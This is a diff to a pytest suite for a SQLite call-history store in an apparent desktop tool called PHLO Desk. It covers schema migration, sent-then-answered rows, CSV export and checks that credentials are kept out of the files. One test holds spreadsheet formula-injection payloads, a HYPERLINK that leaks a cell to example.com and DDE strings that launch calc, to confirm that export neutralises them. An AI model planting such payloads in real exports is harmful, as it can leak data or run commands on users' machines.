@@ -5,6 +5,7 @@ Real SQLite files in tmp_path throughout; nothing about sqlite is mocked.
 
 from __future__ import annotations
 
+import base64
 import csv
 import signal
 import sqlite3
@@ -19,15 +20,21 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from phlo_desk.core.actions import MemberAction, MemberRequest, NodeAction, NodeRequest, Role
+from phlo_desk.core.client import PhloClient
 from phlo_desk.core.history import (
+    NO_ANSWER_MESSAGE,
     RECORD_COLUMNS,
+    SCHEMA_VERSION,
     HistoryError,
     HistoryFilter,
     HistoryStore,
     default_history_path,
 )
 from phlo_desk.core.outcomes import ActionResult, Outcome
-from tests.support.secrets import ALL_TOKENS, AUTH_ID
+from phlo_desk.core.settings import Profile
+from phlo_desk.sandbox.http import HttpResponse
+from tests.support.recording_server import RecordingServer
+from tests.support.secrets import ALL_TOKENS, AUTH_ID, TOKEN
 
 CUSTOMER = "+14152225555"
 AGENT = "+14155550100"
@@ -89,6 +96,58 @@ def test_every_field_of_node_and_member_actions_round_trips(store):
     assert oldest.at.utcoffset() is not None
 
 
+def test_a_row_is_written_before_sending_and_completed_with_its_answer(store):
+    request = NodeRequest(NodeAction.COLD_TRANSFER, "sip:alice@example.com", AGENT, Role.CUSTOMER)
+    sent_at = local(DAY, 9, 15, 30, 123000)
+    row_id = store.append_sent(request, sent_at)
+
+    (sent,) = everything(store)
+    assert (sent.id, sent.at, sent.action, sent.target) == (row_id, sent_at, "cold_transfer", "sip:alice@example.com")
+    assert (sent.trigger_source, sent.role, sent.request()) == (AGENT, "customer", request)
+    assert not sent.answered and sent.outcome is Outcome.UNKNOWN
+    assert sent.message == NO_ANSWER_MESSAGE == "Sent, no answer recorded: check the call."
+    assert (sent.status, sent.api_id, sent.detail, sent.elapsed_ms) == (None, "", "", None)
+
+    answer = ActionResult(Outcome.REJECTED, "Plivo refused the request.", request,
+                          status=400, api_id="5d2f-api", detail="member busy", elapsed_ms=231.5)
+    store.complete(row_id, answer)
+    (done,) = everything(store)
+    assert done.answered and (done.id, done.at) == (row_id, sent_at)  # the same row, still at the time sent
+    assert done.as_result() == answer
+
+
+def test_an_answer_completes_only_a_row_still_waiting_for_one(store):
+    first = store.append_sent(warm().request)
+    store.complete(first, warm(api_id="first"))
+    with pytest.raises(HistoryError, match="no longer waiting for an answer") as raised:
+        store.complete(first, warm(api_id="second"))
+    assert str(store.path) in raised.value.detail
+    with pytest.raises(HistoryError, match="no longer waiting for an answer"):
+        store.complete(first + 1, warm(api_id="no such row"))
+    assert [(record.id, record.api_id) for record in everything(store)] == [(first, "first")]
+
+
+def test_rows_without_an_answer_read_plainly_everywhere(store, tmp_path):
+    """In the filters, the recent targets and the CSV alike."""
+    store.append(warm(to="+14150000001", status=201, api_id="a-1"), local(DAY, 9))
+    store.append_sent(warm(to="+14150000002").request, local(DAY, 10))
+    store.append_sent(hold(member="+14150000003").request, local(DAY, 11))
+
+    assert store.recent_targets() == ["+14150000002", "+14150000001"]
+    assert ids(everything(store, HistoryFilter(outcome=Outcome.UNKNOWN))) == [3, 2]  # may have happened
+    assert ids(everything(store, HistoryFilter(address="0002", since=DAY, until=DAY))) == [2]
+
+    target = tmp_path / "history.csv"
+    assert store.export_csv(HistoryFilter(), target) == 3
+    header, *rows = read_csv(target)
+    member, node, answered = (dict(zip(header, row, strict=True)) for row in rows)
+    for row in (member, node):
+        assert (row["outcome"], row["message"], row["answered"]) == ("unknown", NO_ANSWER_MESSAGE, "0")
+        assert (row["status"], row["api_id"], row["detail"], row["elapsed_ms"]) == ("", "", "", "")
+    assert (member["action"], node["action"], node["role"]) == ("hold", "warm_transfer", "agent")
+    assert (answered["outcome"], answered["api_id"], answered["answered"]) == ("ok", "a-1", "1")
+
+
 def test_the_time_defaults_to_now_in_local_time(store):
     before = datetime.now().astimezone()
     store.append(warm())
@@ -137,8 +196,79 @@ def test_the_folder_and_the_schema_are_created_on_first_use(tmp_path):
     assert history.count() == 0 and path.exists()
     with sqlite3.connect(path) as connection:
         assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)
-        assert connection.execute("PRAGMA user_version").fetchone() == (1,)
+        assert connection.execute("PRAGMA user_version").fetchone() == (SCHEMA_VERSION,) == (2,)
     history.close()
+
+
+# The schema as version 1 of PHLO Desk created it, word for word.
+_VERSION_1 = (
+    """CREATE TABLE history (
+        id             INTEGER PRIMARY KEY,
+        at             TEXT NOT NULL,  -- ISO 8601 with the UTC offset, for people and the CSV
+        at_epoch       REAL NOT NULL,  -- seconds since the epoch, for the date filter
+        action         TEXT NOT NULL,
+        target         TEXT NOT NULL,
+        trigger_source TEXT NOT NULL,
+        role           TEXT NOT NULL,
+        outcome        TEXT NOT NULL,
+        status         INTEGER,
+        api_id         TEXT NOT NULL,
+        message        TEXT NOT NULL,
+        detail         TEXT NOT NULL,
+        elapsed_ms     REAL,
+        -- For the address filter: target and trigger_source in lower case, and their
+        -- digits alone (so "415 222" finds +14152225555), each pair joined by a newline.
+        search_text    TEXT NOT NULL,
+        search_digits  TEXT NOT NULL
+    )""",
+    "CREATE INDEX history_at ON history (at_epoch)",
+    "CREATE INDEX history_outcome ON history (outcome)",
+    "PRAGMA user_version = 1",
+)
+_VERSION_1_ROWS = [
+    ("2024-05-14T09:00:00.000+00:00", 1715677200.0, "warm_transfer", CUSTOMER, AGENT, "agent", "ok", 201,
+     "api-1", "Accepted by Plivo.", "", 120.5, f"{CUSTOMER}\n{AGENT}", "14152225555\n14155550100"),
+    ("2024-05-14T09:05:00.000+00:00", 1715677500.0, "hold", CUSTOMER, "", "", "unknown", None,
+     "", "No answer.", "read timed out", None, f"{CUSTOMER}\n", "14152225555\n"),
+]
+
+
+def test_a_version_1_file_is_updated_in_place_keeping_every_row(tmp_path):
+    path = tmp_path / "history.sqlite3"
+    with sqlite3.connect(path) as connection:
+        connection.execute("PRAGMA journal_mode=WAL")
+        for statement in _VERSION_1:
+            connection.execute(statement)
+        connection.executemany(
+            "INSERT INTO history (at, at_epoch, action, target, trigger_source, role, outcome, status, api_id,"
+            " message, detail, elapsed_ms, search_text, search_digits)"
+            " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
+            _VERSION_1_ROWS,
+        )
+    connection.close()
+    inode = path.stat().st_ino
+
+    history = HistoryStore(path)
+    hold_row, warm_row = everything(history)
+    assert (warm_row.id, warm_row.action, warm_row.outcome, warm_row.api_id, warm_row.elapsed_ms) == (
+        1, "warm_transfer", Outcome.OK, "api-1", 120.5)
+    assert (hold_row.id, hold_row.action, hold_row.outcome, hold_row.detail) == (
+        2, "hold", Outcome.UNKNOWN, "read timed out")
+    assert warm_row.answered and hold_row.answered  # version 1 wrote each row after its answer
+    assert ids(everything(history, HistoryFilter(address="415 222"))) == [2, 1]
+
+    row_id = history.append_sent(warm().request)
+    history.complete(row_id, warm(api_id="api-3"))
+    assert [record.api_id for record in everything(history)] == ["api-3", "", "api-1"]
+    history.close()
+    assert path.stat().st_ino == inode and list(tmp_path.iterdir()) == [path]  # in place: no copy, no backup
+    with sqlite3.connect(path) as connection:
+        assert connection.execute("PRAGMA user_version").fetchone() == (SCHEMA_VERSION,)
+        assert connection.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
+    connection.close()
+    reopened = HistoryStore(path)
+    assert reopened.count() == 3  # and it opens again as it is
+    reopened.close()
 
 
 def test_default_paths_keep_sandbox_practice_out_of_the_audit(tmp_path, monkeypatch):
@@ -268,8 +398,31 @@ def test_export_writes_the_filtered_rows_newest_first_under_a_header(store, tmp_
 
     assert store.export_csv(HistoryFilter(), target) == 3
     oldest = dict(zip(header, read_csv(target)[-1], strict=True))
-    assert (oldest["action"], oldest["target"], oldest["trigger_source"]) == ("warm_transfer", CUSTOMER, AGENT)
+    # A leading apostrophe keeps a spreadsheet from reading +1415... as a formula (or a number).
+    assert (oldest["action"], oldest["target"], oldest["trigger_source"]) == (
+        "warm_transfer", "'" + CUSTOMER, "'" + AGENT)
     assert (oldest["status"], oldest["api_id"], oldest["elapsed_ms"], oldest["outcome"]) == ("201", "a-1", "12.5", "ok")
+    assert oldest["answered"] == "1"
+
+
+def test_export_writes_no_cell_a_spreadsheet_would_evaluate(store, tmp_path):
+    formulas = {
+        "message": '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
+        "detail": "+cmd|' /C calc'!A0",
+        "api_id": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "target": "-2+3+cmd|' /C calc'!A0",
+    }
+    request = MemberRequest(MemberAction.HOLD, formulas["target"])
+    store.append(ActionResult(Outcome.REJECTED, formulas["message"], request,
+                              status=-1, api_id=formulas["api_id"], detail=formulas["detail"], elapsed_ms=-2.5))
+    target = tmp_path / "history.csv"
+    store.export_csv(HistoryFilter(), target)
+    header, row = read_csv(target)
+    cells = dict(zip(header, row, strict=True))
+    for column, text in formulas.items():
+        assert cells[column] == "'" + text, column
+    assert (cells["status"], cells["elapsed_ms"], cells["id"]) == ("-1", "-2.5", "1")  # numbers stay numbers
+    assert cells["action"] == "hold" and cells["outcome"] == "rejected"
 
 
 def test_export_into_a_missing_folder_fails_plainly_and_leaves_nothing(store, tmp_path):
@@ -360,14 +513,33 @@ def test_a_file_from_a_newer_version_is_refused(tmp_path):
 
 
 def test_nothing_secret_is_stored(store):
-    store.append(warm(message="Accepted.", detail='{"api_id": "x"}', api_id="x"))
-    store.append(hold())
-    store.close()
-    columns = {row[1] for row in sqlite3.connect(store.path).execute("PRAGMA table_info(history)")}
+    """Actions sent with real credentials, recorded as the worker records them: no file
+    of the history holds the token or the Auth ID, in any form, while open or after."""
+    phlo_id, node_id, api_id = "8b2f6a3e-1111-4222-8333-444455556666", "c0ffee00-aaaa", "9f3c41aa-api-id"
+    basic = base64.b64encode(f"{AUTH_ID}:{TOKEN}".encode())
+    with RecordingServer() as server:
+        server.script(HttpResponse.json(201, {"api_id": api_id, "error": ""}),
+                      HttpResponse.json(401, {"api_id": "", "error": "Authentication failed"}))
+        client = PhloClient(Profile(api_base=server.url, auth_id=AUTH_ID, phlo_id=phlo_id, node_id=node_id), TOKEN)
+        for request in (warm().request, hold().request):
+            row_id = store.append_sent(request)
+            store.complete(row_id, client.run(request))
+        client.close()
+    assert all(request.headers["authorization"] == f"Basic {basic.decode()}" for request in server.requests)
+
+    def history_bytes() -> bytes:
+        files = list(store.path.parent.iterdir())
+        assert store.path in files
+        return b"".join(file.read_bytes() for file in files)
+
+    secrets = [token.encode() for token in ALL_TOKENS] + [AUTH_ID.encode(), basic]
+    for moment in ("open", "closed"):  # open: the rows may still be in the write-ahead log
+        data = history_bytes()
+        assert api_id.encode() in data and CUSTOMER.encode() in data, moment  # the scan sees the rows
+        assert [secret for secret in secrets if secret in data] == [], moment
+        store.close()
+    assert [record.outcome for record in everything(store)] == [Outcome.AUTH, Outcome.OK]
+    connection = sqlite3.connect(store.path)
+    columns = {row[1] for row in connection.execute("PRAGMA table_info(history)")}
+    connection.close()
     assert columns == {*RECORD_COLUMNS, "at_epoch", "search_text", "search_digits"}
-    files = list(store.path.parent.iterdir())
-    assert store.path in files
-    for file in files:
-        data = file.read_bytes()
-        assert not any(token.encode() in data for token in ALL_TOKENS), file
-        assert AUTH_ID.encode() not in data, file
